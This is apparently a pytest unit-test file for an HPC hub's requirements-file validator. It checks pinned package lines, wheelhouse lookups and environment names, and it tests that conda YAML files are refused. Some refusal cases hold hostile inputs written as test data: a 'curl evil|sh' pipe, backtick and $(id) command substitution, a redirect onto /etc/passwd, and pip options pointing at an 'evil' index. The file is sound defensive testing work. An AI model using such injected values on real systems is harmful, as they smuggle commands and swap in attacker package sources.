"""The environment spec allowlist (hub/envs/spec.py): what a requirements file may say."""

from __future__ import annotations

import pytest

from hub.envs.spec import (
    Requirement,
    SpecError,
    check_against_wheelhouse,
    check_env_name,
    check_spec_file_name,
    parse_spec,
    render_spec,
    wheelhouse_index,
)

pytestmark = pytest.mark.unit

WHEELS = [
    "hpchub_hello-1.0-py3-none-any.whl",
    "numpy-2.5.5-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
    "Jupyter_Client-8.10.0-py3-none-any.whl",
    "psutil-7.2.2-cp36-abi3-manylinux2010_x86_64.manylinux_2_12_x86_64.manylinux_2_28_x86_64.whl",
    "pkg-1.0-1build-py3-none-any.whl",
    "README.txt",
    "source-1.0.tar.gz",
]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("hpchub-hello==1.0\n", [("hpchub-hello", "hpchub-hello", "1.0", ())], id="one-pin"),
        pytest.param("# comment\n\n  numpy==2.5.5  # why\n", [("numpy", "numpy", "2.5.5", ())], id="comments-blanks"),
        pytest.param(
            "Jupyter_Client==8.10.0\n", [("Jupyter_Client", "jupyter-client", "8.10.0", ())], id="normalised-name"
        ),
        pytest.param("ipython[kernel]==9.18.1\n", [("ipython", "ipython", "9.18.1", ("kernel",))], id="extras"),
        pytest.param(
            "a==1.0rc1\nb==2.0.post1\nc==3.dev2\n".replace("3.dev2", "3.0.dev2"),
            [("a", "a", "1.0rc1", ()), ("b", "b", "2.0.post1", ()), ("c", "c", "3.0.dev2", ())],
            id="pre-post-dev",
        ),
        pytest.param("x==1\r\n", [("x", "x", "1", ())], id="crlf"),
    ],
)
def test_accepted_specs(text: str, expected: list[tuple]) -> None:
    assert [(r.name, r.normalized, r.version, r.extras) for r in parse_spec(text)] == expected


@pytest.mark.parametrize(
    ("text", "message"),
    [
        pytest.param("", r"^spec: no packages", id="empty"),
        pytest.param("# only a comment\n", r"^spec: no packages", id="only-comments"),
        pytest.param("numpy\n", r"line 1 \('numpy'\): every package must be pinned", id="bare-name"),
        pytest.param("numpy>=2.0\n", r"line 1 \('numpy>=2.0'\): every package must be pinned", id="range"),
        pytest.param("numpy~=2.0\n", "must be pinned", id="compatible"),
        pytest.param("numpy!=2.0\n", "must be pinned", id="not-equal"),
        pytest.param("numpy===2.0\n", "must be pinned", id="arbitrary-equality"),
        pytest.param("numpy==2.*\n", "shell metacharacters are not allowed: \\*", id="wildcard"),
        pytest.param("torch==2.13.0+cpu\n", "not a name==version line", id="local-version"),
        pytest.param("-e .\n", r"line 1 \('-e \.'\): pip options such as -e are not allowed", id="editable"),
        pytest.param("-r other.txt\n", "pip options such as -r", id="include"),
        pytest.param("--index-url https://evil/simple\n", "pip options such as --index-url", id="index-url"),
        pytest.param("--extra-index-url=https://evil\n", "pip options such as --extra-index-url", id="extra-index"),
        pytest.param("--find-links /tmp\n", "pip options such as --find-links", id="find-links"),
        pytest.param("https://evil.example/x-1.0-py3-none-any.whl\n", "URLs and paths are not allowed", id="url"),
        pytest.param("git+https://github.com/x/y\n", "URLs and paths are not allowed", id="vcs-url"),
        pytest.param("x @ https://evil/x.whl\n", "URLs and paths are not allowed", id="direct-reference"),
        pytest.param("./local-pkg\n", "URLs and paths are not allowed", id="relative-path"),
        pytest.param("/tmp/x.whl\n", "URLs and paths are not allowed", id="absolute-path"),
        pytest.param("numpy==2.5.5; python_version>'3'\n", "environment markers", id="marker"),
        pytest.param("numpy==2.5.5 && curl evil|sh\n", "shell metacharacters are not allowed: & \\|", id="and-pipe"),
        pytest.param("numpy==2.5.5`id`\n", "shell metacharacters are not allowed: `", id="backtick"),
        pytest.param("numpy==$(id)\n", "shell metacharacters are not allowed: \\$ \\( \\)", id="substitution"),
        pytest.param("numpy==2.5.5 > /etc/passwd\n", "shell metacharacters", id="redirect"),
        pytest.param("hpchub-hello==1.0\nnum py==1.0\n", r"spec line 2 \('num py==1.0'\)", id="space-names-line-2"),
        pytest.param("a==1.0\nA==2.0\n", r"spec line 2 .*: A is already pinned on line 1", id="duplicate"),
        pytest.param("a==1.0\0\n", "NUL byte", id="nul"),
        pytest.param("x==1\n" * 70_000, "larger than", id="too-large"),
    ],
)
def test_refused_specs_name_the_line_and_rule(text: str, message: str) -> None:
    with pytest.raises(SpecError, match=message):
        parse_spec(text)


def test_too_many_packages() -> None:
    with pytest.raises(SpecError, match="more than 200 packages"):
        parse_spec("".join(f"p{n}==1.0\n" for n in range(201)))


@pytest.mark.parametrize(
    ("name", "ok"),
    [
        ("tiny", True), ("torch-2_cuda", True), ("a", True), ("a" * 32, True),
        ("a" * 33, False), ("Tiny", False), ("2fast", False), ("-x", False), ("", False), ("a/b", False),
        ("..", False), ("a b", False), ("a;rm", False), ("tiny\n", False), (None, False),
    ],
)  # fmt: skip
def test_environment_names(name, ok: bool) -> None:
    if ok:
        assert check_env_name(name) == name
    else:
        with pytest.raises(SpecError, match="^NAME: must be 1-32 characters"):
            check_env_name(name)


def test_wheelhouse_index_reads_wheel_names_only() -> None:
    index = wheelhouse_index(WHEELS)
    assert index == {
        "hpchub-hello": {"1.0"}, "numpy": {"2.5.5"}, "jupyter-client": {"8.10.0"}, "psutil": {"7.2.2"}, "pkg": {"1.0"},
    }  # fmt: skip


@pytest.mark.parametrize(
    ("text", "message"),
    [
        pytest.param("scipy==1.18.1\n", "unknown package 'scipy': not in the site's wheelhouse /wh", id="unknown"),
        pytest.param(
            "numpy==2.0.0\n",
            r"numpy==2.0.0 is not in the site's wheelhouse /wh; versions there: 2.5.5",
            id="other-version",
        ),
    ],
)
def test_wheelhouse_refusals(text: str, message: str) -> None:
    with pytest.raises(SpecError, match=message):
        check_against_wheelhouse(parse_spec(text), wheelhouse_index(WHEELS), "/wh")


def test_wheelhouse_accepts_normalised_names_and_renders_the_installed_spec() -> None:
    requirements = parse_spec("Hpchub_Hello==1.0\njupyter-client==8.10.0\n")
    check_against_wheelhouse(requirements, wheelhouse_index(WHEELS), "/wh")
    assert render_spec(requirements) == "Hpchub_Hello==1.0\njupyter-client==8.10.0\n"
    assert Requirement("ipython", "ipython", "9.18.1", ("kernel",)).line == "ipython[kernel]==9.18.1"


CONDA_YML = """name: vision
channels:
  - conda-forge
dependencies:
  - python=3.11
  - numpy=2.1
  - pip:
    - hpchub-hello==1.0
"""


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(CONDA_YML, id="full"),
        pytest.param("dependencies:\n  - numpy\n", id="dependencies-only"),
        pytest.param("# exported\nchannels: [conda-forge]\n", id="after-a-comment"),
    ],
)
def test_a_conda_environment_yml_is_refused_saying_why(text: str) -> None:
    with pytest.raises(
        SpecError,
        match="a conda environment.yml cannot be built on this site: conda packages come "
        "from conda channels, which its machines cannot reach",
    ):
        parse_spec(text)


@pytest.mark.parametrize("file_name", ["environment.yml", "/tmp/lab/ENV.YAML"])
def test_an_environment_yml_file_name_is_refused(file_name: str) -> None:
    with pytest.raises(SpecError, match=r"\.(yml|YAML): a conda environment.yml cannot be built on this site"):
        check_spec_file_name(file_name)
    check_spec_file_name("requirements.txt")  # the usual name passes
    assert parse_spec("name-tool==1.0\n")[0].name == "name-tool"  # a package called name... is no conda key
